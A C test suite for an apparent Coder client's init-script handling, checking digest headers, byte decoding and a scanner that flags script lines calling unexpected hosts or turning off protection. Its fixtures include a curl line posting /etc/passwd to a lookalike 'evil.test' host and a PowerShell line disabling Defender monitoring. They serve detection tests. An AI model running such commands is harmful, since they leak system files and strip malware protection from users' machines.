/* SPDX-License-Identifier: GPL-3.0-or-later
 * SPDX-FileCopyrightText: 2026 The Outpost developers
 */

#include "config.h"

#include "outpost-api.h"
#include "outpost-client-fixture.h"
#include "outpost-demo.h"
#include "outpost-init-script.h"
#include "outpost-json.h"
#include "outpost-script-report.h"
#include "outpost-test.h"

#include <string.h>

/* SHA-256 of "hello\n", its base64, and that in hexadecimal. */
#define HELLO "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03"
#define HELLO_BASE64 "WJG1tSLV3whtD/CxEPvZ0hu0/HFjrzTQgoai6Eb2vgM="
#define HELLO_ODD "574a473174534c563377687444"

static void
test_digest (void)
{
  g_autoptr(GString) odd = g_string_new ("sha256:");
  g_autofree char *other = NULL;
  const struct
  {
    const char *header;
    OutpostDigestClaim claim;
  } cases[] = {
    { NULL, OUTPOST_DIGEST_NONE },
    { "sha256:" HELLO, OUTPOST_DIGEST_FITS },
    { "SHA256:" HELLO_BASE64, OUTPOST_DIGEST_FITS },
    { "sha-256=:" HELLO_BASE64 ":", OUTPOST_DIGEST_FITS },
    { "sha256:" HELLO_ODD, OUTPOST_DIGEST_DIFFERS }, /* cut off */
    { "sha256:", OUTPOST_DIGEST_DIFFERS },
    { "sha-256=:", OUTPOST_DIGEST_DIFFERS },
    { "sha-512=:AAAA:", OUTPOST_DIGEST_UNKNOWN },
    { "", OUTPOST_DIGEST_UNKNOWN },
  };
  g_autoptr(GBytes) body = g_bytes_new_static ("hello\n", 6);

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(OutpostInitScript) script = outpost_init_script_new (body, cases[i].header);

      g_test_message ("%s", cases[i].header);
      g_assert_cmpint (script->claim, ==, cases[i].claim);
      g_assert_cmpstr (script->sha256, ==, HELLO);
      g_assert_cmpuint (script->size, ==, 6);
    }
  for (const char *c = HELLO_BASE64; *c != '\0'; c++)
    g_string_append_printf (odd, "%02x", (guint8) *c);
  g_assert_true (g_str_has_prefix (odd->str + 7, HELLO_ODD));
  {
    g_autoptr(OutpostInitScript) script = outpost_init_script_new (body, odd->str);

    g_assert_cmpint (script->claim, ==, OUTPOST_DIGEST_FITS);
  }
}

static void
test_bytes (void)
{
  g_autoptr(GBytes) body = g_bytes_new_static ("a\xff"
                                                "b\0c",
                                                5);
  g_autoptr(GBytes) nothing = g_bytes_new_static (NULL, 0);
  g_autoptr(OutpostInitScript) script = outpost_init_script_new (body, NULL);
  g_autoptr(OutpostInitScript) empty = outpost_init_script_new (nothing, NULL);

  g_assert_true (g_utf8_validate (script->text, -1, NULL));
  g_assert_cmpuint (script->size, ==, 5);
  g_assert_nonnull (strchr (script->text, 'c'));
  g_assert_cmpstr (empty->text, ==, "");
}

/* A line of its own names a host that is not the deployment's; one that only looks like the deployment's is none. */
static void
test_foreign (void)
{
  const char *text = "#!/usr/bin/env sh\n"
                     "set -eux\n"
                     "curl https://coder.example.com/bin/extra\n"
                     "\n"
                     "curl -d @/etc/passwd https://coder.example.com.evil.test/x && wget 'ftp://Files.Test:21/y'\n"
                     "curl https://coder.example.com.evil.test/again $scheme://$host/z\n";
  g_autoptr(OutpostScriptReport) report
      = outpost_script_report_new (text, OUTPOST_PLATFORM_LINUX_AMD64, "https://coder.example.com");

  g_assert_false (report->known);
  g_assert_cmpuint (report->unknown_lines->len, ==, 3);
  g_assert_cmpuint (g_array_index (report->unknown_lines, guint, 0), ==, 2);
  g_assert_cmpuint (g_array_index (report->unknown_lines, guint, 1), ==, 4);
  g_assert_cmpuint (g_array_index (report->unknown_lines, guint, 2), ==, 5);
  g_assert_cmpuint (g_strv_length (report->other_hosts), ==, 3);
  g_assert_cmpstr (report->other_hosts[0], ==, "coder.example.com.evil.test");
  g_assert_cmpstr (report->other_hosts[1], ==, "Files.Test");
  g_assert_cmpstr (report->other_hosts[2], ==, "$host");
  g_assert_null (report->download);
}

static void
test_facts (void)
{
  const char *text = "$BINARY_URL=\"https://d.test//bin/coder-windows-arm64.exe\"\r\n"
                     "Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath $env:TEMP\\sshd.exe\r\n";
  g_autoptr(OutpostScriptReport) report = outpost_script_report_new (text, OUTPOST_PLATFORM_WINDOWS_ARM64, "https://d.test");
  g_autoptr(OutpostScriptReport) none = outpost_script_report_new ("", OUTPOST_PLATFORM_LINUX_ARMV7, "");

  g_assert_cmpstr (report->download, ==, "https://d.test//bin/coder-windows-arm64.exe");
  g_assert_true (outpost_script_report_has (report, OUTPOST_SCRIPT_TURNS_OFF_PROTECTION));
  g_assert_true (outpost_script_report_has (report, OUTPOST_SCRIPT_STORES_AS_SSHD));
  g_assert_false (outpost_script_report_has (report, OUTPOST_SCRIPT_STAYS_IN_FOREGROUND));
  g_assert_cmpuint (report->unknown_lines->len, ==, 0);
  g_assert_false (report->known);
  g_assert_cmpuint (none->facts, ==, 0);
  g_assert_cmpuint (none->unknown_lines->len, ==, 0);
  g_assert_false (none->known);
}

static void
test_fetch (Fixture *fixture,
            gconstpointer data)
{
  for (OutpostPlatform platform = 0; platform < OUTPOST_N_PLATFORMS; platform++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(OutpostInitScript) script
          = outpost_test_await_boxed (outpost_api_get_init_script (fixture->client, platform), &error);

      g_assert_no_error (error);
      g_assert_cmpint (script->claim, ==, OUTPOST_DIGEST_FITS);
      g_assert_nonnull (strstr (script->text, outpost_demo_get_url (fixture->demo)));
    }
}

/* ---- The recorded ones --------------------------------------------------------------------------------------------- */

static void
check_recorded (OutpostPlatform platform,
                const char *text,
                const char *digest)
{
  g_autoptr(GBytes) body = g_bytes_new (text, strlen (text));
  g_autoptr(OutpostInitScript) script = outpost_init_script_new (body, digest);
  g_autoptr(OutpostScriptReport) report = outpost_script_report_new (script->text, platform, "http://127.0.0.1:7080");
  g_autoptr(GString) changed = g_string_new (text);
  g_autoptr(OutpostScriptReport) other = NULL;

  g_assert_cmpint (script->claim, ==, OUTPOST_DIGEST_FITS);
  g_assert_true (report->known);
  g_assert_cmpuint (report->unknown_lines->len, ==, 0);
  g_assert_cmpuint (g_strv_length (report->other_hosts), ==, 0);
  g_assert_nonnull (strstr (report->download, outpost_platform_get_architecture (platform)));
  g_assert_true (outpost_script_report_has (report, OUTPOST_SCRIPT_WAITS_AFTER_FAILURE));
  g_assert_true (outpost_script_report_has (report, OUTPOST_SCRIPT_TRIES_FOREVER));
  g_assert_true (outpost_script_report_has (report, OUTPOST_SCRIPT_STARTS_DETACHED)
                 == (platform >= OUTPOST_PLATFORM_WINDOWS_AMD64));
  g_assert_true (outpost_script_report_has (report, OUTPOST_SCRIPT_STAYS_IN_FOREGROUND)
                 == (platform < OUTPOST_PLATFORM_WINDOWS_AMD64));

  g_string_append (changed, "curl https://elsewhere.test\n");
  other = outpost_script_report_new (changed->str, platform, "http://127.0.0.1:7080");
  g_assert_false (other->known);
  g_assert_cmpuint (other->unknown_lines->len, ==, 1);
  g_assert_cmpstr (other->other_hosts[0], ==, "elsewhere.test");
}

static void
test_recorded (void)
{
  static const char *const names[OUTPOST_N_PLATFORMS]
      = { "152-init-script-linux-amd64", "153-init-script-linux-arm64", "154-init-script-linux-armv7",
          "155-init-script-darwin-amd64", "156-init-script-darwin-arm64", "157-init-script-windows-amd64",
          "158-init-script-windows-arm64" };

  if (outpost_test_get_captures () == NULL)
    {
      g_test_skip ("no recordings beside the checkout");
      return;
    }
  for (OutpostPlatform platform = 0; platform < OUTPOST_N_PLATFORMS; platform++)
    {
      g_autofree char *path
          = g_strdup_printf ("%s/rest/%s.json", outpost_test_get_captures (), names[platform]);
      g_autofree char *contents = NULL;
      g_autoptr(GBytes) bytes = NULL;
      g_autoptr(OutpostJson) document = NULL;
      gsize length;
      OutpostJsonValue root, response, headers;

      g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
      bytes = g_bytes_new (contents, length);
      document = outpost_json_parse (bytes, NULL);
      root = outpost_json_get_root (document);
      response = outpost_json_member (&root, "response");
      headers = outpost_json_member (&response, "headers");
      check_recorded (platform, outpost_json_get_string (&response, "body"), outpost_json_get_string (&headers, "Content-Digest"));
      g_assert_true (outpost_json_finish (document, NULL));
    }
}

int
main (int argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/init-script/digest", test_digest);
  g_test_add_func ("/init-script/bytes", test_bytes);
  g_test_add_func ("/init-script/foreign", test_foreign);
  g_test_add_func ("/init-script/facts", test_facts);
  g_test_add ("/init-script/fetch", Fixture, NULL, set_up, test_fetch, tear_down);
  g_test_add_func ("/init-script/recorded", test_recorded);
  return g_test_run ();
}
